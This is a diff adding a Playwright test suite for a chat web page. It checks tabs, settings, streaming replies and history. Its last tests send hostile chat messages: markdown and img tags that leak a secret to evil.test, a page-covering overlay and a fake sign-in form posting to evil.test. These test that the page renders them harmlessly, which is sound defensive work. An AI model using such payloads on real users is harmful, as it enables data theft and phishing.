@@ -1,0 +1,240 @@
+"""The page, as a visitor uses it."""
+
+import re
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+pytestmark = pytest.mark.browser
+
+
+def pick_model(page: Page, name: str) -> None:
+    """Types a model of the provider that is picked."""
+    field = page.locator("#model input")
+    field.fill(name)
+    field.press("Enter")
+    expect(page.locator("#box textarea")).to_be_editable()
+
+
+def say(page: Page, text: str) -> None:
+    box = page.locator("#box textarea")
+    box.fill(text)
+    box.press("Enter")
+
+
+def chat(page: Page) -> Locator:
+    return page.locator("#chat")
+
+
+def finished(page: Page, count: int = 1) -> None:
+    expect(page.locator("#chat .metrics")).to_have_count(count)
+
+
+def test_enter_sends_and_shift_enter_makes_a_line(page: Page) -> None:
+    box = page.locator("#box textarea")
+    box.fill("one")
+    box.press("Shift+Enter")
+    box.type("two")
+    expect(box).to_have_value("one\ntwo")
+    box.press("Enter")
+    finished(page)
+    expect(box).to_have_value("")
+    expect(box).to_be_focused()
+
+
+def test_an_agent_is_picked_and_its_example_sent_by_a_click(page: Page) -> None:
+    page.locator("#agent input").click()
+    page.get_by_role("option", name="Assistant").click()
+    expect(page.locator("#chat .placeholder h2")).to_have_text("Assistant")
+    page.locator("#chat .example").first.click()
+    finished(page)
+
+
+def test_a_reload_in_the_middle_of_an_answer_goes_on(page: Page) -> None:
+    pick_model(page, "words-200@40")
+    say(page, "go")
+    expect(chat(page)).to_contain_text("w9 ")
+    tab = page.get_by_role("tab", selected=True).inner_text()
+    page.reload()
+    expect(chat(page)).to_contain_text("w20 ")
+    expect(page.get_by_role("tab", selected=True)).to_have_text(tab)
+    expect(page.locator("#stop")).to_be_visible()
+    finished(page)
+    expect(chat(page)).to_contain_text("w199")
+
+
+def test_a_second_window_sees_the_same_live_run(page: Page) -> None:
+    pick_model(page, "words-200@40")
+    say(page, "go")
+    expect(chat(page)).to_contain_text("w9 ")
+    other = page.context.new_page()
+    other.goto(page.url)
+    expect(other.locator("#chat")).to_contain_text("w30 ")
+    finished(page)
+    finished(other)
+    assert other.locator("#chat .bot-row").all_inner_texts() == page.locator("#chat .bot-row").all_inner_texts()
+
+
+def test_escape_stops_the_answer(page: Page) -> None:
+    pick_model(page, "words-500@20")
+    say(page, "go")
+    expect(chat(page)).to_contain_text("w3 ")
+    page.keyboard.press("Escape")
+    expect(page.locator("#chat .badge")).to_have_text("Stopped")
+    expect(page.locator("#stop")).to_be_hidden()
+
+
+def test_reasoning_and_tools_fold_under_their_titles(page: Page) -> None:
+    pick_model(page, 'tool:stamp:{"text": "paper"}')
+    say(page, "stamp it")
+    finished(page)
+    title = page.locator("#chat .thought-group > .title").first
+    expect(title).to_contain_text("stamp")
+    expect(chat(page)).not_to_contain_text("Arguments")
+    title.click()
+    expect(page.locator("#chat .thought-group .content")).to_contain_text("stamped paper")
+
+
+def test_a_failure_is_an_entry_with_a_way_on(page: Page) -> None:
+    pick_model(page, "status-429")
+    say(page, "go")
+    expect(page.locator("#chat .note.danger")).to_be_visible()
+    expect(chat(page)).not_to_contain_text("Traceback")
+    pick_model(page, "echo")
+    page.get_by_role("button", name="Try again").click()
+    expect(page.locator("#chat .note.danger")).to_have_count(0)
+    expect(page.locator("#chat .bot-row").first).to_contain_text("go")
+
+
+def test_an_edit_makes_a_version_and_the_versions_can_be_switched(page: Page) -> None:
+    say(page, "one")
+    finished(page)
+    question = page.locator("#chat .message-buttons-right")
+    question.hover()
+    question.get_by_role("button", name="Edit").click()
+    page.locator("#chat .edit-textarea").fill("two")
+    page.get_by_role("button", name="Submit").click()
+    expect(page.locator("#chat .user-row")).to_have_text(re.compile("two"))
+    versions = page.locator("#versions input")
+    versions.click()
+    page.get_by_role("option").last.click()
+    expect(page.locator("#chat .user-row")).to_have_text(re.compile("one"))
+
+
+def test_tabs_are_added_picked_renamed_closed_and_brought_back_by_keyboard(page: Page) -> None:
+    tabs = page.get_by_role("tab")
+    page.keyboard.press("Alt+n")
+    expect(tabs).to_have_count(2)
+    expect(tabs.nth(1)).to_have_attribute("aria-selected", "true")
+    tabs.nth(1).focus()
+    page.keyboard.press("Home")
+    expect(tabs.nth(0)).to_have_attribute("aria-selected", "true")
+    expect(tabs.nth(0)).to_be_focused()
+    page.keyboard.press("ArrowLeft")
+    expect(tabs.nth(1)).to_be_focused()
+    page.keyboard.press("F2")
+    page.get_by_label("Title of the session").fill("${1+1} <b>x</b>")
+    page.keyboard.press("Enter")
+    expect(tabs.nth(1)).to_have_text("${1+1} <b>x</b>")
+    page.reload()
+    expect(page.get_by_role("tab", selected=True)).to_have_text("${1+1} <b>x</b>")
+    page.get_by_role("tab", selected=True).focus()
+    page.keyboard.press("Delete")
+    expect(tabs).to_have_count(1)
+    page.keyboard.press("Alt+Shift+t")
+    expect(page.get_by_role("tab", selected=True)).to_have_text("${1+1} <b>x</b>")
+
+
+def test_another_tab_can_be_used_while_one_answers(page: Page) -> None:
+    pick_model(page, "words-200@20")
+    say(page, "go")
+    expect(chat(page)).to_contain_text("w3 ")
+    page.locator("button.add").click()
+    expect(page.locator("#chat .placeholder")).to_be_visible()
+    pick_model(page, "echo")
+    say(page, "meanwhile")
+    finished(page)
+    expect(chat(page)).not_to_contain_text("w3 ")
+    page.get_by_role("tab").first.click()
+    expect(chat(page)).to_contain_text("w60 ")
+
+
+def test_settings_belong_to_the_tab_and_are_kept(page: Page) -> None:
+    page.locator("button.settings").click()
+    page.locator("#instructions textarea").fill("Be brief.")
+    page.locator("#temperature input").fill("0.5")
+    page.locator("#temperature input").blur()
+    page.keyboard.press("Escape")
+    page.wait_for_timeout(500)
+    page.reload()
+    page.locator("button.settings").click()
+    expect(page.locator("#instructions textarea")).to_have_value("Be brief.")
+    expect(page.locator("#temperature input")).to_have_value("0.5")
+
+
+def test_the_history_opens_threads_and_asks_before_it_deletes(page: Page) -> None:
+    say(page, "remember me")
+    finished(page)
+    page.locator("button.add").click()
+    expect(page.get_by_role("tab")).to_have_count(2)
+    page.locator("button.history").click()
+    page.locator("#threads .name").first.click()
+    expect(chat(page)).to_contain_text("remember me")
+    page.locator("button.history").click()
+    page.locator("#threads .bin").first.click()
+    page.get_by_role("button", name="Keep").click()
+    expect(page.locator("#threads .name")).to_have_count(1)
+    page.locator("#threads .bin").first.click()
+    page.get_by_role("button", name="Delete", exact=True).click()
+    expect(page.locator("#threads .none")).to_be_visible()
+    expect(chat(page)).not_to_contain_text("remember me")
+
+
+def test_a_provider_without_a_key_says_what_is_missing(page: Page) -> None:
+    page.get_by_role("radio", name="OpenAI").click()
+    expect(page.locator("#providers")).to_contain_text("OPENAI_API_KEY")
+    say(page, "hello")
+    expect(page.get_by_role("alert")).to_contain_text("OPENAI_API_KEY")
+    expect(page.locator("#box textarea")).to_have_value("hello")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_a_narrow_screen_needs_no_sideways_scroll(page: Page, scheme: str) -> None:
+    page.set_viewport_size({"width": 390, "height": 844})
+    page.goto(f"{page.url}&__theme={scheme}")
+    expect(page.locator("body")).to_have_class(re.compile("dark") if scheme == "dark" else re.compile("^(?!.*dark)"))
+    pick_model(page, "words-200")
+    say(page, "x" * 300)
+    finished(page)
+    assert page.evaluate("document.documentElement.scrollWidth") == 390
+    expect(page.locator("#send")).to_be_in_viewport()
+
+
+def test_nothing_is_asked_of_another_host(page: Page, asked_elsewhere: list[str]) -> None:
+    say(page, "![x](https://evil.test/?d=secret) <img src=https://evil.test/2> $$x^2$$")
+    finished(page)
+    assert not [url for url in asked_elsewhere if "evil.test" not in url]
+    loaded = page.evaluate("[...document.images].filter(i => i.src.includes('evil')).map(i => i.naturalWidth)")
+    assert not any(loaded)
+
+
+def test_a_message_cannot_cover_the_page(page: Page) -> None:
+    say(page, '<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>')
+    finished(page)
+    covering = page.evaluate("document.elementFromPoint(60, 20).textContent + document.elementFromPoint(720, 860).id")
+    assert "over everything" not in covering
+    page.locator("button.add").click()
+    expect(page.get_by_role("tab")).to_have_count(2)
+
+
+def test_a_form_in_a_message_sends_nothing_elsewhere(page: Page) -> None:
+    say(
+        page,
+        '<form action="https://evil.test/f"><input name="a" value="b"><button type="submit">Sign in</button></form>',
+    )
+    finished(page)
+    for button in page.locator("#chat .message form button").all():
+        button.click()
+    page.evaluate("document.querySelectorAll('#chat form').forEach(form => form.requestSubmit())")
+    page.wait_for_timeout(300)
+    assert "evil.test" not in page.url
